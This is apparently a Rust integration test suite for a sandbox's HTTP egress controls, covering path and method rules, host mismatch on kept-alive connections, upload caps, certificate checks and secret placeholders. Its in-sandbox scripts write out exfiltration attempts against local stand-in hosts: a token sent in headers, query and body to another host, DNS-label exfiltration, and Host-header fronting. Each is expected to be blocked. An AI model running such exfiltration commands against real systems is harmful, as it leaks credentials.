//! Request-level egress through the real binary: local HTTPS servers with a test CA
//! (made here with rcgen) stand in for the internet; curl (HTTP/1.1 and HTTP/2),
//! Python urllib and Node fetch run inside the sandbox. Every request is checked:
//! allowed method and path reach the server, others get 403 and a violation and
//! never reach it; a second request naming another host on a kept-alive connection
//! is refused on HTTP/1.1 and HTTP/2; caps cut uploads and request counts; an
//! upstream whose certificate does not verify is refused, never downgraded.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use crate::escape::{Lab, Outcome};

/// A Python HTTPS server on the host's loopback, killed on drop.
struct Upstream {
    child: Child,
    port: u16,
    log: PathBuf,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Upstream {
    fn start(lab: &Lab, tag: &str, cert: Option<(&Path, &Path)>) -> Upstream {
        let log = lab.path(&format!("{tag}.log"));
        std::fs::write(&log, "").unwrap();
        let script =
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/https_server.py");
        let (c, k) = cert.map_or(("-".into(), "-".into()), |(c, k)| {
            (c.display().to_string(), k.display().to_string())
        });
        let mut child = Command::new("python3")
            .arg(script)
            .arg(&log)
            .args([c, k])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().expect("server port");
        Upstream { child, port, log }
    }

    fn requests(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect()
    }
}

/// A CA, and a leaf for `names` signed by it: (ca.pem, leaf.pem, leaf.key).
fn test_ca(lab: &Lab, names: &[&str]) -> (PathBuf, PathBuf, PathBuf) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca, ca_key);
    let key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(names.iter().map(|n| n.to_string()).collect::<Vec<_>>())
        .unwrap()
        .signed_by(&key, &issuer)
        .unwrap();
    let (a, b, c) = (
        lab.path("ca.pem"),
        lab.path("leaf.pem"),
        lab.path("leaf.key"),
    );
    std::fs::write(&a, ca_cert.pem()).unwrap();
    std::fs::write(&b, leaf.pem()).unwrap();
    std::fs::write(&c, key.serialize_pem()).unwrap();
    (a, b, c)
}

/// A skill whose entrypoint is `sh t.sh` with `script`, under `egress` rules.
fn skill(lab: &Lab, name: &str, egress: &str, script: &str) -> PathBuf {
    let dir = lab.path(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("t.sh"), script).unwrap();
    std::fs::write(
        dir.join("skillsandbox.yaml"),
        format!(
            "skill: {{name: {name}, version: \"0.1.0\"}}\n\
             permissions:\n  network:\n    egress:\n{egress}\n\
             resources: {{max_runtime_seconds: 60}}\n\
             entrypoint:\n  command: sh\n  args: [t.sh]\n"
        ),
    )
    .unwrap();
    dir
}

fn run(lab: &Lab, dir: &Path, roots: Option<&Path>) -> Outcome {
    let hosts = lab.path("hosts");
    std::fs::write(&hosts, "127.0.0.1 good.test other.test\n").unwrap();
    let mut c = lab.cmd();
    c.env("SKILLSANDBOX_EGRESS_HOSTS", &hosts);
    if let Some(r) = roots {
        c.env("SKILLSANDBOX_EGRESS_ROOTS", r);
    }
    Outcome::from(c.args(["run", "--json"]).arg(dir).output().unwrap())
}

fn line<'a>(o: &'a Outcome, key: &str) -> &'a str {
    o.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{key}=")))
        .unwrap_or_else(|| panic!("no {key}= line:\n{}", o.dump()))
}

fn rules(port: u16, extra: &str) -> String {
    format!(
        "      - domain: good.test\n        ports: [{port}]\n        methods: [GET, POST]\n        paths: [\"/ok*\", \"/upload\"]\n{extra}\
         \x20     - domain: other.test\n        ports: [{port}]\n\
         \x20     - cidr: 127.0.0.1/32\n        ports: [{port}]"
    )
}

#[test]
fn every_request_is_checked_over_tls_on_http1_and_http2() {
    let Some(lab) = Lab::new() else { return };
    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
    let up = Upstream::start(&lab, "tls", Some((&cert, &key)));
    let p = up.port;
    let u = |path: &str| format!("https://good.test:{p}{path}");
    let script = format!(
        "c() {{ curl -s -o /dev/null -w '%{{http_code}}' \"$@\"; }}\n\
         echo ok=$(c {ok})\n\
         echo path=$(c {bad})\n\
         echo method=$(c -X DELETE {ok})\n\
         echo h2=$(curl -s --http2 -o /dev/null -w '%{{http_version}}/%{{http_code}}' {ok})\n\
         echo front1=$(c --http1.1 {ok} --next --http1.1 -s -o /dev/null -w '/%{{http_code}}' -H 'Host: other.test:{p}' {ok})\n\
         echo front2=$(c --http2 {ok} --next --http2 -s -o /dev/null -w '/%{{http_code}}' -H 'Host: other.test:{p}' {ok})\n\
         echo py=$(python3 -c 'import urllib.request,sys; print(urllib.request.urlopen(sys.argv[1]).status)' {ok})\n\
         echo node=$(node -e 'fetch(process.argv[1]).then(r => console.log(r.status), e => console.log(\"ERR\", e.cause))' {ok})\n",
        ok = u("/ok.txt"),
        bad = u("/secret.txt"),
    );
    let dir = skill(&lab, "l7-tls", &rules(p, ""), &script);
    let o = run(&lab, &dir, Some(&ca));
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "ok"), "200", "{}", o.dump());
    assert_eq!(line(&o, "path"), "403", "{}", o.dump());
    assert_eq!(line(&o, "method"), "403", "{}", o.dump());
    assert_eq!(line(&o, "h2"), "2/200", "{}", o.dump());
    assert_eq!(line(&o, "front1"), "200/403", "{}", o.dump());
    assert_eq!(line(&o, "front2"), "200/403", "{}", o.dump());
    assert_eq!(line(&o, "py"), "200", "{}", o.dump());
    assert_eq!(line(&o, "node"), "200", "{}", o.dump());
    let v = o.violations().join("\n");
    assert!(
        v.contains("network_blocked: HTTP GET /secret.txt to good.test: not allowed"),
        "{v}"
    );
    assert!(
        v.contains("network_blocked: HTTP DELETE /ok.txt to good.test"),
        "{v}"
    );
    assert_eq!(
        v.matches("domain_mismatch: HTTP GET /ok.txt to good.test: the request names other.test on a connection made for good.test").count(),
        2,
        "{v}"
    );
    // Only allowed requests reached the server.
    let seen = up.requests();
    assert!(!seen.is_empty());
    assert!(
        seen.iter().all(|r| r.starts_with("GET /ok.txt good.test:")),
        "{seen:?}"
    );
}

#[test]
fn plain_http_keep_alive_is_checked_per_request_and_caps_cut() {
    let Some(lab) = Lab::new() else { return };
    let up = Upstream::start(&lab, "plain", None);
    let p = up.port;
    let ok = format!("http://good.test:{p}/ok.txt");
    let script = format!(
        "c() {{ curl -s -o /dev/null -w '%{{http_code}}' \"$@\"; }}\n\
         echo front=$(c {ok} --next -s -o /dev/null -w '/%{{http_code}}' -H 'Host: other.test:{p}' {ok})\n\
         head -c 3000 /dev/zero > /tmp/big\n\
         echo small=$(c --data-binary hello http://good.test:{p}/upload)\n\
         echo big=$(c --data-binary @/tmp/big http://good.test:{p}/upload)\n\
         echo third=$(c {ok})\n"
    );
    let caps = "        max_bytes_out: 2KB\n        max_requests: 4\n";
    let dir = skill(&lab, "l7-plain", &rules(p, caps), &script);
    let o = run(&lab, &dir, None);
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "front"), "200/403", "{}", o.dump());
    assert_eq!(line(&o, "small"), "200", "{}", o.dump());
    assert_eq!(line(&o, "big"), "413", "{}", o.dump());
    // Requests so far: ok, small, big (cut): the fourth is allowed, the fifth is not.
    assert_eq!(line(&o, "third"), "200", "{}", o.dump());
    let v = o.violations().join("\n");
    assert!(v.contains("network_cap: HTTP POST /upload to good.test: the request body passes max_bytes_out (2000 bytes per run)"), "{v}");
    let seen = up.requests();
    assert!(
        seen.iter()
            .any(|r| r.starts_with("POST /upload good.test:") && r.contains(" 5 ")),
        "{seen:?}"
    );
    assert!(
        !seen.iter().any(|r| r.contains(" 3000 ")),
        "the cut upload reached the server: {seen:?}"
    );

    let script =
        format!("for i in 1 2 3; do curl -s -o /dev/null -w 'r%{{http_code}} ' {ok}; done; echo\n");
    let dir = skill(
        &lab,
        "l7-count",
        &rules(p, "        max_requests: 2\n"),
        &script,
    );
    let o = run(&lab, &dir, None);
    assert!(o.stdout.contains("r200 r200 r429"), "{}", o.dump());
    assert!(
        o.violations()
            .join("\n")
            .contains("network_cap: HTTP GET /ok.txt to good.test: request 3 of at most 2"),
        "{}",
        o.dump()
    );
}

#[test]
fn an_upstream_that_does_not_verify_is_refused_not_downgraded() {
    let Some(lab) = Lab::new() else { return };
    let (_ca, cert, key) = test_ca(&lab, &["good.test"]);
    let up = Upstream::start(&lab, "untrusted", Some((&cert, &key)));
    let p = up.port;
    let script = format!(
        "echo code=$(curl -s -o /dev/null -w '%{{http_code}}' https://good.test:{p}/ok.txt)\n"
    );
    let dir = skill(&lab, "l7-untrusted", &rules(p, ""), &script);
    // The test CA is not given as an extra root: the system roots do not know it.
    let o = run(&lab, &dir, None);
    assert_eq!(line(&o, "code"), "502", "{}", o.dump());
    let conns = o.json["network"]["connections"].to_string();
    assert!(conns.contains("never downgraded"), "{conns}");
    assert!(up.requests().is_empty(), "{:?}", up.requests());
}

#[test]
fn secrets_reach_only_their_host_and_never_the_sandbox_or_the_records() {
    let Some(lab) = Lab::new() else { return };
    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
    let up = Upstream::start(&lab, "secrets", Some((&cert, &key)));
    let p = up.port;
    let value = crate::escape::unique("TOKENVALUE");
    let script = format!(
        "echo env=$API_TOKEN\n\
         env > /tmp/env.txt; echo envdump=$(grep -c '{marker}' /tmp/env.txt)\n\
         echo good=$(curl -s -H \"Authorization: Bearer $API_TOKEN\" https://good.test:{p}/ok.txt)\n\
         echo other=$(curl -s -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" https://other.test:{p}/ok.txt)\n\
         echo query=$(curl -s -o /dev/null -w '%{{http_code}}' \"https://other.test:{p}/ok.txt?t=$API_TOKEN\")\n\
         echo body=$(curl -s -o /dev/null -w '%{{http_code}}' --data \"k=$API_TOKEN\" https://other.test:{p}/upload)\n\
         echo dns=$(python3 -c 'import socket,sys\ntry:\n socket.getaddrinfo(sys.argv[1] + \".good.test\", 443); print(\"resolved\")\nexcept OSError: print(\"refused\")' $API_TOKEN)\n",
        marker = "TOKENVALUE",
    );
    let egress = format!(
        "      - domain: good.test\n        ports: [{p}]\n      - domain: other.test\n        ports: [{p}]\n      - cidr: 127.0.0.1/32\n        ports: [{p}]\n  secrets:\n    API_TOKEN:\n      from: env:SKSB_TEST_API_TOKEN\n      hosts: [good.test]\n      header: Authorization"
    );
    let dir = skill(&lab, "l7-secrets", &egress, &script);
    let hosts = lab.path("hosts");
    std::fs::write(&hosts, "127.0.0.1 good.test other.test\n").unwrap();
    let trace = lab.path("secrets-trace.json");
    let out = lab
        .cmd()
        .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
        .env("SKILLSANDBOX_EGRESS_ROOTS", &ca)
        .env("SKSB_TEST_API_TOKEN", &value)
        .args(["run", "--json", "--trace-output"])
        .arg(&trace)
        .arg(&dir)
        .output()
        .unwrap();
    let o = Outcome::from(out);
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    let placeholder = line(&o, "env").to_string();
    assert!(
        placeholder.starts_with("sksb") && placeholder.len() == 36,
        "{}",
        o.dump()
    );
    assert_eq!(line(&o, "envdump"), "0", "{}", o.dump());
    // The allowed host got the real value; the sandbox got the echo back as the
    // placeholder.
    let seen = up.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(seen[0].ends_with(&format!("Bearer {value}")), "{seen:?}");
    assert!(
        line(&o, "good").ends_with(&format!("auth=Bearer {placeholder}")),
        "{}",
        o.dump()
    );
    for k in ["other", "query", "body"] {
        assert_eq!(line(&o, k), "403", "{k}: {}", o.dump());
    }
    assert_eq!(line(&o, "dns"), "refused", "{}", o.dump());
    let v = o.violations().join("\n");
    assert_eq!(v.matches("secret_exfiltration: HTTP").count(), 3, "{v}");
    assert!(v.contains("carries the placeholder of secret API_TOKEN (in the headers), which may only go to good.test"), "{v}");
    assert!(v.contains("(in the path or query)"), "{v}");
    assert!(v.contains("(in the body)"), "{v}");
    assert!(
        v.contains("secret_exfiltration: DNS A query carries the placeholder of secret API_TOKEN"),
        "{v}"
    );
    // The value is nowhere: not in any output, the trace or the audit log.
    let trace_text = std::fs::read_to_string(&trace).unwrap();
    assert!(
        trace_text.contains("secret API_TOKEN swapped in for good.test"),
        "{trace_text}"
    );
    let audit = std::fs::read_to_string(lab.path("state/audit.jsonl")).unwrap();
    for (what, text) in [
        ("output", o.everything()),
        ("trace", trace_text),
        ("audit", audit),
    ] {
        assert!(
            !text.contains(&value),
            "the secret value leaked into the {what}"
        );
    }

    // A missing source refuses the run, naming the variable, never a value.
    let o = Outcome::from(
        lab.cmd()
            .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
            .args(["run", "--json"])
            .arg(&dir)
            .output()
            .unwrap(),
    );
    assert_eq!(o.exit_code, 125, "{}", o.dump());
    assert!(
        o.everything()
            .contains("secret API_TOKEN: env:SKSB_TEST_API_TOKEN is not set"),
        "{}",
        o.dump()
    );
}
